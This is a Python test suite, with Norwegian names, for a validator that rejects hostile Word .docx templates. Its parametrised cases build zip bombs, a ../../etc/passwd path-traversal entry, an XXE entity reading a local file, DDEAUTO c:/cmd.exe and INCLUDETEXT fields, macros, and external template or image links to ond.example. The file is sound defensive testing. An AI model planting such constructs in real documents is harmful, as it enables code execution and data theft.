import io
import zipfile
from collections.abc import Callable

import pytest

from core.letters.feil import Malfeil
from core.letters.render import last_mal
from core.letters.sjekk import kontroller
from tests.core.letters.brevbygger import W, avsnitt, deler, endret, med_tekst, pakket, standardmal

DOK, RELS, TYPER = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
MEG = 1024 * 1024
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def ny_del(navn: str, data: bytes = b"x") -> bytes:
    return pakket({**deler(standardmal()), navn: data})


def forbindelse(type_: str, maal: str, modus: str = "External") -> bytes:
    ny = f'<Relationship Id="rId99" Type="{_R}/{type_}" Target="{maal}" TargetMode="{modus}"/>'
    return endret(RELS, "</Relationships>", ny + "</Relationships>")


def i_teksten(xml: str) -> bytes:
    return endret(DOK, "<w:sectPr>", xml + "<w:sectPr>")


def felt(*biter: str) -> bytes:
    instruks = "".join(f"<w:r><w:instrText>{bit}</w:instrText></w:r>" for bit in biter)
    start, slutt = (f'<w:r><w:fldChar w:fldCharType="{t}"/></w:r>' for t in ("begin", "end"))
    return i_teksten(f"<w:p>{start}{instruks}{slutt}</w:p>")


def med_dtd(koding: str, dtd: str) -> bytes:
    innhold = deler(standardmal())
    tekst = innhold["word/header1.xml"].decode().partition("?>")[2]
    innhold["word/header1.xml"] = f'<?xml version="1.0" encoding="{koding}"?>{dtd}{tekst}'.encode(
        koding
    )
    return pakket(innhold)


def med_flagg() -> bytes:
    """Mark every part as encrypted, as a file with a zip password has it."""
    data = bytearray(standardmal())
    for merke, sted in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(merke)
        while start >= 0:
            data[start + sted] |= 1
            start = data.find(merke, start + 4)
    return bytes(data)


def med_loegn() -> bytes:
    """Let the directory name a smaller size than a part has."""
    data = bytearray(pakket(deler(standardmal())))
    start = data.find(b"PK\x01\x02")
    while data[start + 46 : start + 46 + len(DOK)] != DOK.encode():
        start = data.find(b"PK\x01\x02", start + 4)
    data[start + 24 : start + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def like_navn() -> bytes:
    buffer = io.BytesIO(standardmal())
    with zipfile.ZipFile(buffer, "a") as arkiv:
        arkiv.writestr("word/Document.xml", b"<x/>")
    return buffer.getvalue()


FIENDTLIGE: dict[str, tuple[Callable[[], bytes], str]] = {
    "0 byte": (lambda: b"", "tom"),
    "tekstfil": (lambda: b"Hei alle sammen", "ikke et Word-dokument"),
    "gammel doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "gamle formatet"),
    "passord": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "passord",
    ),
    "zip-passord": (med_flagg, "kryptert"),
    "avkortet": (lambda: standardmal()[:-400], "skadet eller avkortet"),
    "løgn om størrelse": (med_loegn, "skadet eller avkortet"),
    "annen zip": (lambda: pakket({"xl/workbook.xml": b"<x/>"}), "mangler selve teksten"),
    "uten innholdsliste": (lambda: pakket({DOK: b"<x/>"}), "innholdslisten"),
    "over 5 MB": (lambda: standardmal() + b"\0" * (5 * MEG), "5 MB"),
    "bombe i teksten": (lambda: pakket({DOK: b" " * (3 * MEG)}), "2 MB"),
    "bombe i et bilde": (lambda: ny_del("word/media/a.bin", b"\0" * MEG), "mistenkelig"),
    "bombe samlet": (
        lambda: pakket({DOK: b"<x/>", **{f"word/{i}.bin": b"\0" * (9 * MEG) for i in range(6)}}),
        "50 MB",
    ),
    "mange deler": (lambda: pakket({f"d{i}": b"" for i in range(301)}), "301 deler"),
    "like navn": (like_navn, "like navn"),
    "ut av mappen": (lambda: ny_del("../../etc/passwd"), "ugyldige"),
    "annen stasjon": (lambda: ny_del("C:\\x.xml"), "ugyldige"),
    "doctype": (lambda: med_dtd("UTF-8", "<!DOCTYPE x>"), "DOCTYPE"),
    "doctype i utf-16": (lambda: med_dtd("UTF-16", "<!DOCTYPE x>"), "DOCTYPE"),
    "entitet i små bokstaver": (lambda: ny_del("word/a.xml", b"<!doctype x []>"), "DOCTYPE"),
    "skjult tegnsett": (lambda: med_dtd("UTF-7", ""), "tegnsett"),
    "ekstern mal": (lambda: forbindelse("attachedTemplate", "https://ond.example/m"), "annen fil"),
    "bilde over UNC": (lambda: forbindelse("image", r"\\ond.example\b.png"), "peker ut"),
    "bilde over https": (lambda: forbindelse("image", "https://ond.example/b.png"), "peker ut"),
    "ole over mhtml": (lambda: forbindelse("oleObject", "mhtml:https://ond.example"), "annen fil"),
    "lenke til fil": (lambda: forbindelse("hyperlink", "file:///c:/x.exe"), "peker ut"),
    "lenke til http": (lambda: forbindelse("hyperlink", "http://ond.example"), "peker ut"),
    "intern altChunk": (lambda: forbindelse("aFChunk", "x.html", "Internal"), "annen fil"),
    "makroer": (lambda: ny_del("word/vbaProject.bin"), "makroer"),
    "docm": (
        lambda: endret(
            TYPER,
            "openxmlformats-officedocument.wordprocessingml.document.main",
            "ms-word.document.macroEnabled.main",
        ),
        "makroer",
    ),
    "word-mal": (lambda: endret(TYPER, "document.main+xml", "template.main+xml"), "vanlig Word"),
    "activex": (lambda: ny_del("word/activeX/activeX1.xml", b"<x/>"), "aktivt element"),
    "embedding": (lambda: ny_del("word/embeddings/o1.bin"), "innebygd"),
    "altChunk": (lambda: i_teksten('<w:altChunk w:val="x"/>'), "altChunk"),
    "ole i teksten": (lambda: i_teksten("<w:p><w:r><w:object/></w:r></w:p>"), "innebygd objekt"),
    "fletting": (
        lambda: endret("word/settings.xml", "<w:zoom", "<w:mailMerge/><w:zoom"),
        "utskriftsfletting",
    ),
    "sporede endringer": (lambda: i_teksten("<w:p><w:ins/></w:p>"), "sporede endringer"),
    "merknader": (lambda: i_teksten("<w:p><w:r><w:commentReference/></w:r></w:p>"), "merknader"),
    "INCLUDETEXT delt": (lambda: felt(" INCL", "UDETEXT ", "c:/x.docx"), "INCLUDETEXT"),
    "INCLUDEPICTURE": (lambda: felt('includepicture "https://ond.example/x"'), "includepicture"),
    "DDEAUTO": (
        lambda: i_teksten('<w:p><w:fldSimple w:instr="DDEAUTO c:/cmd.exe"/></w:p>'),
        "DDEAUTO",
    ),
    "felt uten navn": (lambda: felt(" "), "tomt felt"),
    "felt uten start": (
        lambda: i_teksten("<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"),
        "DDE",
    ),
    "lenkefelt til fil": (lambda: felt('HYPERLINK "file:///c:/x.exe"'), "lenke"),
    "ødelagt xml": (lambda: ny_del("word/x.xml", b"<w:p>"), "skadet"),
}


@pytest.mark.parametrize("navn", FIENDTLIGE)
def test_a_hostile_file_is_refused_with_its_own_reason(navn: str) -> None:
    lag, ord_ = FIENDTLIGE[navn]
    with pytest.raises(Malfeil) as feil:
        kontroller(lag())
    assert ord_ in feil.value.melding


def test_a_field_nested_in_another_is_seen() -> None:
    start, slutt = (f'<w:r><w:fldChar w:fldCharType="{t}"/></w:r>' for t in ("begin", "end"))
    indre = f"{start}<w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r>{slutt}"
    ytre = f"<w:p>{start}<w:r><w:instrText>REF a</w:instrText></w:r>{indre}{slutt}</w:p>"
    with pytest.raises(Malfeil, match="INCLUDETEXT"):
        kontroller(i_teksten(ytre))


@pytest.mark.parametrize("maal", ["https://lovdata.no/", "mailto:post@fjordvik.example"])
def test_a_link_to_the_web_or_to_mail_is_kept(maal: str) -> None:
    docx = forbindelse("hyperlink", maal)
    assert maal.encode() in kontroller(docx)[RELS]


@pytest.mark.parametrize("kode", ["PAGE", "REF a", 'HYPERLINK "https://x.no"', r"HYPERLINK \l a"])
def test_a_harmless_field_is_kept(kode: str) -> None:
    assert kontroller(felt(kode))


def test_external_entities_are_never_read(tmp_path_factory: pytest.TempPathFactory) -> None:
    hemmelig = tmp_path_factory.mktemp("h") / "hemmelig.txt"
    hemmelig.write_text("HEMMELIG", encoding="utf-8")
    dtd = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{hemmelig.as_uri()}">]>'
    with pytest.raises(Malfeil, match="DOCTYPE"):
        last_mal(med_dtd("UTF-8", dtd))


def test_a_code_that_word_has_split_over_runs_is_one() -> None:
    biter = ("{", "{ mott", "aker.na", "vn }", "}")
    loep = "".join(f"<w:r><w:t>{bit}</w:t></w:r>" for bit in biter)
    mal = last_mal(i_teksten(f"<w:p>{loep}</w:p>"))
    assert "mottaker.navn" in mal.felt


def test_a_field_where_nothing_is_merged_is_refused() -> None:
    fot = f'<w:endnotes xmlns:w="{W[1:-1]}"><w:p/>{{{{ mottaker.navn }}}}</w:endnotes>'
    ny = f'<Relationship Id="rId99" Type="{_R}/endnotes" Target="endnotes.xml"/>'
    type_ = "application/vnd.openxmlformats-officedocument.wordprocessingml.endnotes+xml"
    mal = endret(RELS, "</Relationships>", ny + "</Relationships>", ny_del("word/endnotes.xml"))
    mal = pakket({**deler(mal), "word/endnotes.xml": fot.encode()})
    override = f'<Override PartName="/word/endnotes.xml" ContentType="{type_}"/></Types>'
    with pytest.raises(Malfeil, match="endnotes"):
        last_mal(endret(TYPER, "</Types>", override, mal))


def test_plain_text_is_left_alone() -> None:
    assert "Hundre % og { krøll }" in avsnitt(med_tekst("Hundre % og { krøll }"))
